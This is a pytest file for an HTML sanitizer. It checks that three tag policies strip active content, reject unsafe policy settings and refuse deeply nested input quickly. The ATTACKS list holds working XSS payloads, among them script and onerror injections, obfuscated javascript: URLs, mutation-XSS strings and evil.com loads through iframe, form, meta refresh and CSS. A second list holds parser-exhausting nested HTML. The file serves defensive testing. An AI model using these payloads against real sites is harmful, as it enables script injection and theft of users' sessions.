"""HTML from people: nothing active comes out, in bounded time."""

import builtins
import re
import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.errors import ConfigurationError, MissingDependencyError, ValidationError
from shared.security import HtmlPolicy, sanitize_html

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.com/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=data:text/html,x>x</a>", "<iframe src=//evil.com></iframe>", "<object data=x></object>", "<embed src=x>",
    "<form action=//evil.com><input name=a></form>", "<meta http-equiv=refresh content='0;url=//evil.com'>",
    "<base href=//evil.com>", "<link rel=stylesheet href=//evil.com>", "<style>*{background:url(//evil.com)}</style>",
    "<p style='background:url(javascript:x)'>x</p>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
    "<a href='https://a' id=document name=cookie>x</a>", "<<script>script>alert(1)<</script>/script>", "<img/src/onerror=alert(1)>",
    '<p title="`><img src=x onerror=alert(1)>">', "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>x</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<textarea><img src=x onerror=alert(1)></textarea>", "<plaintext><script>x",
    '<a href="<a href=javascript:alert(1)">x</a>', '<a href="\x01java\tscript:alert(1)">x</a>',
    "<a href=https://a target=_blank rel=opener>x</a>", "<details ontoggle=alert(1) open>", "<isindex type=image src=1 onerror=x>",
]  # fmt: skip
POLICIES = [HtmlPolicy.text, HtmlPolicy.basic, HtmlPolicy.rich]
each_policy = pytest.mark.parametrize("policy", POLICIES, ids=["text", "basic", "rich"])


class Reader(HTMLParser):
    """What a page would get: elements with their attributes."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def assert_allowed(html, policy):
    reader = Reader()
    reader.feed(html)
    for tag, attributes in reader.found:
        assert tag in policy.tags
        for name, value in attributes.items():
            assert name in {*policy.attributes.get(tag, ()), *policy.attributes.get("*", ()), "rel"}
            if name in ("href", "src"):
                scheme = scheme_for_a_browser(value)
                assert scheme is None or scheme in policy.url_schemes


def scheme_for_a_browser(url):
    """The scheme by the WHATWG URL standard, section 4.4: controls around and tabs and newlines inside go first."""
    url = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return found and found[1].lower()


@each_policy
@pytest.mark.parametrize("html", ATTACKS)
def test_nothing_active_comes_out(html, policy):
    assert_allowed(sanitize_html(html, policy), policy)


pieces = st.sampled_from(
    [
        *ATTACKS,
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<a href='",
        "'",
        '"',
        ">",
        "<",
        "&lt;",
        "<!--",
        "-->",
        "<table>",
        "<td>",
    ]
)


@each_policy
@given(html=st.lists(pieces | st.text(max_size=5), max_size=6).map("".join))
def test_whatever_goes_in_only_what_is_allowed_comes_out(html, policy):
    once = sanitize_html(html, policy)

    assert_allowed(once, policy)
    assert_allowed(sanitize_html(once, policy), policy)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"),
        ("<h1>Title</h1>", "Title"),
        ("<a href='https://a.b/c?d=e' onclick=x title=t>x</a>",
         '<a href="https://a.b/c?d=e" title="t" rel="noopener noreferrer nofollow">x</a>'),
        ("<a href=/relative>x</a>", '<a href="/relative" rel="noopener noreferrer nofollow">x</a>'),
        ("<a href=tel:1>x</a>", '<a rel="noopener noreferrer nofollow">x</a>'),
        ("a<script>x</script>b<!-- c -->", "ab"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("<b>unclosed", "<b>unclosed</b>"),
        ("", ""),
        ("\ud800<b>\x00</b>", "?<b></b>"),
        ('<p title="t" lang="de">x</p>', "<p>x</p>"),
    ],
)  # fmt: skip
def test_basic_keeps_what_a_comment_needs(html, expected):
    assert sanitize_html(html) == expected


def test_rich_keeps_what_an_article_needs():
    html = '<h1>T</h1><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><img src="https://a/b.png" alt="c">'

    assert sanitize_html(html, HtmlPolicy.rich) == html


def test_text_keeps_nothing_but_text_which_is_still_html():
    assert sanitize_html("<p>1 &lt; <b>2</b></p>", HtmlPolicy.text) == "1 &lt; 2"


def test_a_policy_of_your_own():
    policy = HtmlPolicy(
        tags=["p", "span"], attributes={"*": ["lang"], "span": ["class"]}, url_schemes=["https"]
    )

    html = sanitize_html('<p lang="de" class="x"><span class="y">z</span><b>b</b></p>', policy)

    assert html == '<p lang="de"><span class="y">z</span>b</p>'


@pytest.mark.parametrize(
    "wrong",
    [{"tags": ["script"]}, {"tags": ["svg"]}, {"tags": ["P"]}, {"tags": ["a b"]}, {"tags": [7]}, {"tags": "script"},
     {"tags": ["p"], "attributes": {"p": ["onclick"]}}, {"tags": ["p"], "attributes": {"p": ["style"]}},
     {"tags": ["p"], "attributes": {"p": ["id"]}}, {"tags": ["a"], "attributes": {"a": ["rel"]}},
     {"attributes": {"p": ["title"]}}, {"url_schemes": ["javascript"]}, {"url_schemes": ["data"]}, {"url_schemes": [""]}],
    ids=repr,
)  # fmt: skip
def test_a_policy_that_allows_something_active_is_refused(wrong):
    with pytest.raises(ConfigurationError):
        HtmlPolicy(**wrong)


def test_a_policy_cannot_be_changed():
    with pytest.raises(TypeError):
        HtmlPolicy.basic.attributes["p"] = frozenset({"onclick"})
    with pytest.raises(AttributeError):
        HtmlPolicy.basic.tags.add("script")


@pytest.mark.parametrize("html", [None, 7, b"<b>", ["<b>"]], ids=repr)
def test_what_is_no_text_is_refused(html):
    with pytest.raises(ValidationError, match="must be text"):
        sanitize_html(html)


def test_what_is_too_long_is_refused():
    with pytest.raises(ValidationError, match="11 characters, at most 10 are read"):
        sanitize_html("x" * 11, max_length=10)


FONTS = "".join(f"<b class={n}>" for n in range(256))
BOMBS = {
    "nested": "<div>" * 100_000,
    "nested two": "<b><i>" * 50_000,
    "formatting carried on": "<p>" + FONTS + "</p>" + "<div>x</div>" * 20_000,
    "ends that end nothing": "<div></span>" * 50_000,
    "tables": "<table><tr><td>" * 30_000,
    "tables and ends": "<div><table><tr><td></div>" * 20_000,
    "links": "<a href=x><b>" * 30_000,
    "upper case": "<DIV>" * 100_000,
    "glued": "<div/" * 100_000,
}


@pytest.mark.parametrize("html", BOMBS.values(), ids=BOMBS)
def test_html_that_would_take_minutes_is_refused_at_once(html):
    started = time.process_time()

    with pytest.raises(ValidationError, match="nested too deeply"):
        sanitize_html(html)

    assert time.process_time() - started < 2.0


HARMLESS = {
    "paragraphs": "<p>Hello <b>world</b></p>" * 20_000,
    "open paragraphs": "<p>Hello" * 20_000,
    "open items": "<ul>" + "<li>x" * 20_000 + "</ul>",
    "open cells": "<table>" + "<tr><td>x<td>y" * 5_000 + "</table>",
    "line breaks": "x<br>" * 50_000,
    "angle brackets": "<" * 200_000,
    "entities": "&" * 200_000,
    "attributes": "<a" + " b" * 100_000 + ">",
    "ends": "</p>" * 50_000,
    "comment": "<!--" + "x" * 500_000,
    "nested a little": "<div>" * 500 + "x" + "</div>" * 500,
}


@pytest.mark.parametrize("html", HARMLESS.values(), ids=HARMLESS)
def test_long_html_that_is_not_deep_is_read_in_bounded_time(html):
    started = time.process_time()

    assert_allowed(sanitize_html(html, HtmlPolicy.rich)[:10_000].rpartition("<")[0], HtmlPolicy.rich)

    assert time.process_time() - started < 5.0


def test_a_missing_library_is_told_with_the_line_that_installs_it(monkeypatch):
    real = builtins.__import__

    def without(name, *args, **kwargs):
        if name == "nh3":
            raise ImportError(name)
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", without)

    with pytest.raises(MissingDependencyError, match=r"libs-shared\[html\]"):
        sanitize_html("x")


def test_a_panic_of_the_parser_does_not_end_the_worker(monkeypatch):
    panic = type("PanicException", (BaseException,), {})

    def panics(*args, **kwargs):
        raise panic

    monkeypatch.setattr(nh3, "clean", panics)

    with pytest.raises(ValidationError, match="cannot be parsed"):
        sanitize_html("x")


def test_an_interrupt_of_the_parser_is_passed_on(monkeypatch):
    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(nh3, "clean", interrupted)

    with pytest.raises(KeyboardInterrupt):
        sanitize_html("x")
